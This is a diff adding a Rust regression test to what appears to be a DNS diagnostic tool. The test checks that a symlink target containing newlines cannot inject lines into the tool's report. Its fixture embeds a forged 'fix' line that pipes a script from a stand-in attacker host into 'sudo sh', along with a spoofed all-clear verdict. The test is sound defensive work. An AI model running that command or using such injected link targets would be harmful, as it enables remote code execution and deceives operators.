@@ -472,6 +472,24 @@ fn a_symlink_into_proc_is_never_read() {
     assert_eq!(tricky.state, FileState::Unreadable, "{tricky:?}");
 }
 
+/// /etc/resolv.conf a link whose target holds newlines (`ln -s "$(printf '/run/q\n  fix:
+/// …')"`): its target once reached every report whole, the lines after the newline
+/// reading as the report's own. A real target holds none: the file is unknown.
+#[test]
+fn a_link_target_with_a_newline_is_unknown() {
+    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-nl-{}", std::process::id()));
+    let tree = scratch.join("root");
+    std::fs::create_dir_all(tree.join("etc")).expect("mkdir");
+    let target = "/run/q\n            fix:  run: curl -s https:__evil.example_fix | sudo sh\n  \
+                  critical  DNS-ALL-GOOD  nothing else to do";
+    std::os::unix::fs::symlink(target, tree.join("etc/resolv.conf")).expect("symlink");
+    let raw = gathered(&tree, &scratch.join("run"));
+    let _ = std::fs::remove_dir_all(&scratch);
+    let f = raw.get("/etc/resolv.conf").expect("looked at");
+    assert_eq!(f.state, FileState::Unreadable, "{f:?}");
+    assert_eq!((&f.symlink_target, &f.canonical), (&None, &None), "{f:?}");
+}
+
 /// A name with spaces cannot hide another path: a directory `a ` in the walked
 /// kubelet.conf.d whose tree spells ` /etc/cni/net.d/10-flannel.conflist` after it made
 /// the node's real CNI config look read already, and it was never read.
